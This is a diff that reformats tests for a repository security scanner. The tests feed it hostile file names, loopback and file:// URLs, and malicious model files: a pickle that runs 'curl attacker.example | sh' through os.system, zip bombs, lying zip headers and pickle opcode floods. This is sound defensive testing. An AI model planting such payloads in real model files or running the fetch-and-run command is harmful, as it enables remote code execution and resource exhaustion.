@@ -39,7 +39,11 @@ async function scanRepo(repo: TestRepo, opts: { cloneTimeoutMs?: number } = {}) 
   const { scan } = await enqueueScan(t.db, p.queues, r.id, "manual");
   let outcome: string;
   try {
-    outcome = await runScan({ db: t.db, databaseUrl: t.url, rulebook: p.rulebook, allowLocalRepos: true, workRoot: checkouts.root, ...opts }, scan.id, { number: 1, max: 1 });
+    outcome = await runScan(
+      { db: t.db, databaseUrl: t.url, rulebook: p.rulebook, allowLocalRepos: true, workRoot: checkouts.root, ...opts },
+      scan.id,
+      { number: 1, max: 1 },
+    );
   } catch (e) {
     if (!(e instanceof PermanentScanError)) throw e;
     outcome = "failed";
@@ -47,7 +51,13 @@ async function scanRepo(repo: TestRepo, opts: { cloneTimeoutMs?: number } = {}) 
   const row = await t.db.scan.findUniqueOrThrow({ where: { id: scan.id } });
   const findings = await t.db.finding.findMany({ where: { repositoryId: r.id }, orderBy: [{ path: "asc" }, { line: "asc" }] });
   expect(readdirSync(checkouts.root), "the checkout is removed after the scan").toEqual([]);
-  return { outcome, scan: row, findings, stats: row.stats as { files: number; skipped: Record<string, number> }, errors: row.errors as { path: string; message: string }[] };
+  return {
+    outcome,
+    scan: row,
+    findings,
+    stats: row.stats as { files: number; skipped: Record<string, number> },
+    errors: row.errors as { path: string; message: string }[],
+  };
 }
 
 const EVAL = "def handler(x):\n    return eval(x)\n";
@@ -190,7 +200,14 @@ describe("size and shape", () => {
 
 describe("odd names and bytes", () => {
   it("stores file names with HTML, quotes and newlines verbatim, as data", async () => {
-    const names = ['<img src=x onerror="alert(1)">.py', `it's "quoted" & <b>.py`, "new\nline.py", "tab\there.py", "-rf.py", "dir with spaces/é ü 漢字.py"];
+    const names = [
+      '<img src=x onerror="alert(1)">.py',
+      `it's "quoted" & <b>.py`,
+      "new\nline.py",
+      "tab\there.py",
+      "-rf.py",
+      "dir with spaces/é ü 漢字.py",
+    ];
     const repo = new TestRepo(work.path("names"));
     for (const n of names) repo.write(n, EVAL);
     repo.commit("names");
@@ -329,7 +346,16 @@ describe("regular expressions cannot backtrack without bound", () => {
 });
 
 describe("repository URLs that point at this machine", () => {
-  const local = ["https://127.0.0.1:6379/x", "https://localhost:5432/org/repo", "ssh://git@127.1:6379/x", "git@2130706433:org/repo", "https://[::ffff:127.0.0.1]:6379/x", "https://LOCALHOST./x", "file:///etc", "/etc"];
+  const local = [
+    "https://127.0.0.1:6379/x",
+    "https://localhost:5432/org/repo",
+    "ssh://git@127.1:6379/x",
+    "git@2130706433:org/repo",
+    "https://[::ffff:127.0.0.1]:6379/x",
+    "https://LOCALHOST./x",
+    "file:///etc",
+    "/etc",
+  ];
 
   // Allowing local repositories (the demo) allows paths inside one folder, not this machine's network services
   // or the rest of its disk (issue 15).
@@ -345,11 +371,19 @@ describe("repository URLs that point at this machine", () => {
     const url = `https://${name}:6379/org/repo.git`;
     // Registration resolves the name too (issue 15); a row from before that, or a name whose DNS answer has
     // changed since, is refused when the worker resolves it again right before connecting.
-    await expect(registerRepository(t.db, { url, team: "red-team" }, false)).rejects.toMatchObject({ code: "invalid_url", message: expect.stringMatching(/resolves to an address on this machine/) });
+    await expect(registerRepository(t.db, { url, team: "red-team" }, false)).rejects.toMatchObject({
+      code: "invalid_url",
+      message: expect.stringMatching(/resolves to an address on this machine/),
+    });
     const team = await t.db.team.upsert({ where: { name: "red-team" }, create: { name: "red-team" }, update: {} });
     const r = await t.db.repository.create({ data: { url, urlKey: url, name: "resolves-here", teamId: team.id } });
     const { scan } = await enqueueScan(t.db, p.queues, r.id, "manual");
-    await expect(runScan({ db: t.db, databaseUrl: t.url, rulebook: p.rulebook, allowLocalRepos: false, workRoot: checkouts.root }, scan.id, { number: 1, max: 3 })).rejects.toBeInstanceOf(PermanentScanError);
+    await expect(
+      runScan({ db: t.db, databaseUrl: t.url, rulebook: p.rulebook, allowLocalRepos: false, workRoot: checkouts.root }, scan.id, {
+        number: 1,
+        max: 3,
+      }),
+    ).rejects.toBeInstanceOf(PermanentScanError);
     expect(await t.db.scan.findUniqueOrThrow({ where: { id: scan.id } })).toMatchObject({ status: "failed", failureCode: "local_address" });
   });
 });
@@ -374,7 +408,8 @@ describe("hostile model files", () => {
   // its loader check uses the shared utils (deserialization-sink)
   modelRules.write("utils.yaml", readFileSync(join(REAL_RULES, "utils.yaml"), "utf8"));
   const artifactChecks = loadRulebook(REAL_RULES).checks.filter((c) => c.policy === "Model artifacts carry no executable code");
-  const scanModels = (root: string, artifactLimits?: Parameters<typeof scanDirectory>[1]["artifactLimits"]) => scanDirectory(root, { checks: [...parsePolicy(TEST_POLICY, "t.yaml").checks, ...artifactChecks], artifactLimits });
+  const scanModels = (root: string, artifactLimits?: Parameters<typeof scanDirectory>[1]["artifactLimits"]) =>
+    scanDirectory(root, { checks: [...parsePolicy(TEST_POLICY, "t.yaml").checks, ...artifactChecks], artifactLimits });
   const errorsOf = (r: Awaited<ReturnType<typeof scanModels>>) => r.errors.map((e) => [e.path, e.message]);
   /** A deflate stream of `bytes` zeros, made a chunk at a time (never the whole buffer). */
   const zeros = (bytes: number) => {
@@ -388,15 +423,32 @@ describe("hostile model files", () => {
     await syncCatalogue(t.db, rulebook);
     const repo = new TestRepo(work.path("models"));
     repo.write("app/a.py", EVAL);
-    repo.write("models/evil.pt", zipArchive([{ name: "archive/data.pkl", data: callPickle("os", "system", "curl attacker.example | sh") }]));
+    repo.write(
+      "models/evil.pt",
+      zipArchive([{ name: "archive/data.pkl", data: callPickle("os", "system", "curl attacker.example | sh") }]),
+    );
     // 64 MiB of zeros in a 64 KiB entry: its header is honest, its ratio gives it away before a byte is inflated
-    repo.write("models/bomb.pt", zipArchive([{ name: "archive/data.pkl", data: Buffer.alloc(0), declaredSize: 64 * 1024 ** 2, method: "deflate", compressed: zeros(64 * 1024 ** 2) }]));
+    repo.write(
+      "models/bomb.pt",
+      zipArchive([
+        {
+          name: "archive/data.pkl",
+          data: Buffer.alloc(0),
+          declaredSize: 64 * 1024 ** 2,
+          method: "deflate",
+          compressed: zeros(64 * 1024 ** 2),
+        },
+      ]),
+    );
     repo.write("models/weights.safetensors", safetensors());
     repo.write("models/big.bin", "version https://git-lfs.github.com/spec/v1\noid sha256:abc\nsize 9\n");
     repo.commit("models");
     const r = await registerRepository(t.db, { url: repo.dir, team: "red-team" }, true);
     const { scan } = await enqueueScan(t.db, p.queues, r.id, "manual");
-    const outcome = await runScan({ db: t.db, databaseUrl: t.url, rulebook, allowLocalRepos: true, workRoot: checkouts.root }, scan.id, { number: 1, max: 1 });
+    const outcome = await runScan({ db: t.db, databaseUrl: t.url, rulebook, allowLocalRepos: true, workRoot: checkouts.root }, scan.id, {
+      number: 1,
+      max: 1,
+    });
     expect(outcome).toBe("succeeded");
     const row = await t.db.scan.findUniqueOrThrow({ where: { id: scan.id } });
     const findings = await t.db.finding.findMany({ where: { repositoryId: r.id }, orderBy: [{ path: "asc" }] });
@@ -406,8 +458,19 @@ describe("hostile model files", () => {
     ]);
     expect(findings[1]!.message).toContain("os.system (in archive/data.pkl)");
     expect(findings[1]!.context, "no lines are cut from a binary file").toBeNull();
-    expect(row.errors).toEqual([{ path: "models/bomb.pt", message: expect.stringMatching(/^not scanned: archive\/data\.pkl would inflate \d+ times \(64 MiB\), past the limit of 200; a zip bomb\?$/) }]);
-    expect((row.stats as { artifacts: unknown }).artifacts).toMatchObject({ files: 3, safe: 1, formats: { "torch-zip": 2, safetensors: 1 } });
+    expect(row.errors).toEqual([
+      {
+        path: "models/bomb.pt",
+        message: expect.stringMatching(
+          /^not scanned: archive\/data\.pkl would inflate \d+ times \(64 MiB\), past the limit of 200; a zip bomb\?$/,
+        ),
+      },
+    ]);
+    expect((row.stats as { artifacts: unknown }).artifacts).toMatchObject({
+      files: 3,
+      safe: 1,
+      formats: { "torch-zip": 2, safetensors: 1 },
+    });
     expect((row.stats as { skipped: Record<string, number> }).skipped["lfs-pointer"]).toBe(1);
     expect(readdirSync(checkouts.root)).toEqual([]);
   });
@@ -415,12 +478,28 @@ describe("hostile model files", () => {
   it("a zip entry that inflates past the size its header declares is stopped there", async () => {
     const dir = scratch("posture-hostile-lying-zip-");
     // a pickle that opens with an 8 GiB BINBYTES8: the reader skips the bytes, the archive's size check stops them
-    const head = new PickleWriter().proto(4).raw(0x8e, Buffer.from([0, 0, 0, 0, 2, 0, 0, 0])).bytes();
-    dir.write("m/lying.pt", zipArchive([{ name: "archive/data.pkl", data: head, declaredSize: 4096, method: "deflate", compressed: deflateRawSync(Buffer.concat([head, Buffer.alloc(32 * 1024 ** 2)])) }]));
+    const head = new PickleWriter()
+      .proto(4)
+      .raw(0x8e, Buffer.from([0, 0, 0, 0, 2, 0, 0, 0]))
+      .bytes();
+    dir.write(
+      "m/lying.pt",
+      zipArchive([
+        {
+          name: "archive/data.pkl",
+          data: head,
+          declaredSize: 4096,
+          method: "deflate",
+          compressed: deflateRawSync(Buffer.concat([head, Buffer.alloc(32 * 1024 ** 2)])),
+        },
+      ]),
+    );
     dir.write("m/evil.pkl", callPickle("os", "system", "id"));
     const before = process.memoryUsage().rss;
     const r = await scanModels(dir.root);
-    expect(errorsOf(r)).toEqual([["m/lying.pt", expect.stringMatching(/^archive\/data\.pkl: not fully scanned: too many bytes in the stream/)]]);
+    expect(errorsOf(r)).toEqual([
+      ["m/lying.pt", expect.stringMatching(/^archive\/data\.pkl: not fully scanned: too many bytes in the stream/)],
+    ]);
     expect(r.findings.map((f) => f.path)).toEqual(["m/evil.pkl"]);
     expect(process.memoryUsage().rss - before).toBeLessThan(256 * 1024 ** 2);
   });
@@ -428,7 +507,15 @@ describe("hostile model files", () => {
   it("overlapping entries, a flood of entries and archives nested past the limit are each reported, and the scan goes on", async () => {
     const dir = scratch("posture-hostile-zips-");
     // one 4 MiB kernel, named by 500 central-directory entries: each would inflate 1000 times
-    const kernel = zipArchive([{ name: "k.pkl", data: Buffer.alloc(0), declaredSize: 4 * 1024 ** 2, method: "deflate", compressed: deflateRawSync(Buffer.alloc(4 * 1024 ** 2)) }]);
+    const kernel = zipArchive([
+      {
+        name: "k.pkl",
+        data: Buffer.alloc(0),
+        declaredSize: 4 * 1024 ** 2,
+        method: "deflate",
+        compressed: deflateRawSync(Buffer.alloc(4 * 1024 ** 2)),
+      },
+    ]);
     const cdAt = kernel.readUInt32LE(kernel.length - 6);
     const cd = kernel.subarray(cdAt, kernel.length - 22);
     const copies = Array.from({ length: 500 }, () => cd);
@@ -445,9 +532,14 @@ describe("hostile model files", () => {
     const r = await scanModels(dir.root);
     const errors = errorsOf(r);
     expect(errors.filter(([p]) => p === "m/overlap.pt")).toHaveLength(500);
-    expect(errors.find(([p]) => p === "m/overlap.pt")![1]).toMatch(/^not scanned: k\.pkl would inflate \d+ times \(4 MiB\), past the limit of 200; a zip bomb\?$/);
+    expect(errors.find(([p]) => p === "m/overlap.pt")![1]).toMatch(
+      /^not scanned: k\.pkl would inflate \d+ times \(4 MiB\), past the limit of 200; a zip bomb\?$/,
+    );
     expect(errors).toContainEqual(["m/flood.npz", "not fully scanned: flood.npz has 10050 entries; the first 10000 were read"]);
-    expect(errors).toContainEqual(["m/nested.mar", "not scanned: level4.pt > level3.pt > level2.pt is an archive nested 3 deep, past the limit of 3"]);
+    expect(errors).toContainEqual([
+      "m/nested.mar",
+      "not scanned: level4.pt > level3.pt > level2.pt is an archive nested 3 deep, past the limit of 3",
+    ]);
     expect(r.findings.map((f) => f.path)).toEqual(["m/evil.pkl"]);
   });
 
@@ -460,7 +552,9 @@ describe("hostile model files", () => {
     expect(r.errors).toHaveLength(full.length - 1);
     // once GLOBAL's two lines are read, the import is reported however the file ends
     const afterGlobal = "\x80\x02cposix\nsystem\n".length;
-    expect(r.findings.map((f) => f.path)).toEqual(Array.from({ length: full.length - afterGlobal }, (_, i) => `m/cut${String(afterGlobal + i).padStart(2, "0")}.pkl`));
+    expect(r.findings.map((f) => f.path)).toEqual(
+      Array.from({ length: full.length - afterGlobal }, (_, i) => `m/cut${String(afterGlobal + i).padStart(2, "0")}.pkl`),
+    );
   });
 
   it("an opcode flood is stopped at the stack limit, and a memo flood cannot hide an import", async () => {
@@ -468,13 +562,23 @@ describe("hostile model files", () => {
     dir.write("m/marks.pkl", Buffer.concat([Buffer.from([0x80, 0x04]), Buffer.alloc(3_000_000, 0x28)]));
     // 1.2 million memoised strings, then a STACK_GLOBAL of two that the memo limit did not keep
     const w = new PickleWriter().proto(4);
-    for (let i = 0; i < 1_200_000; i++) w.shortUnicode(i === 1_100_000 ? "os" : i === 1_100_001 ? "system" : "x").memoize().pop();
-    w.raw(0x6a, Buffer.from(Uint32Array.of(1_100_000).buffer), 0x6a, Buffer.from(Uint32Array.of(1_100_001).buffer)).stackGlobal().stop();
+    for (let i = 0; i < 1_200_000; i++)
+      w.shortUnicode(i === 1_100_000 ? "os" : i === 1_100_001 ? "system" : "x")
+        .memoize()
+        .pop();
+    w.raw(0x6a, Buffer.from(Uint32Array.of(1_100_000).buffer), 0x6a, Buffer.from(Uint32Array.of(1_100_001).buffer))
+      .stackGlobal()
+      .stop();
     dir.write("m/memo.pkl", w.bytes());
     const before = process.memoryUsage().rss;
     const started = performance.now();
     const r = await scanModels(dir.root);
-    expect(errorsOf(r)).toEqual([["m/marks.pkl", "not fully scanned: the pickle at byte 0 grows its stack past 1000000 entries (an opcode flood); the rest was not read"]]);
+    expect(errorsOf(r)).toEqual([
+      [
+        "m/marks.pkl",
+        "not fully scanned: the pickle at byte 0 grows its stack past 1000000 entries (an opcode flood); the rest was not read",
+      ],
+    ]);
     expect(r.findings.map((f) => [f.path, f.ruleId])).toEqual([["m/memo.pkl", "ml-serving.artifact.computed-import"]]);
     expect(process.memoryUsage().rss - before).toBeLessThan(256 * 1024 ** 2);
     expect(performance.now() - started).toBeLessThan(20_000);
@@ -482,7 +586,10 @@ describe("hostile model files", () => {
 
   it("the per-file and per-scan read limits are reported, and files within them are still scanned", async () => {
     const dir = scratch("posture-hostile-budget-");
-    const big = new PickleWriter().proto(4).raw(0x8e, Buffer.from([0, 0, 0x40, 0, 0, 0, 0, 0])).bytes(); // 4 MiB of bytes
+    const big = new PickleWriter()
+      .proto(4)
+      .raw(0x8e, Buffer.from([0, 0, 0x40, 0, 0, 0, 0, 0]))
+      .bytes(); // 4 MiB of bytes
     dir.write("a/big.pkl", Buffer.concat([big, Buffer.alloc(4 * 1024 ** 2), callPickle("os", "system", "id").subarray(2)]));
     dir.write("b/evil.pkl", callPickle("os", "system", "id"));
     const perFile = await scanModels(dir.root, { maxFileBytes: 1024 ** 2 });
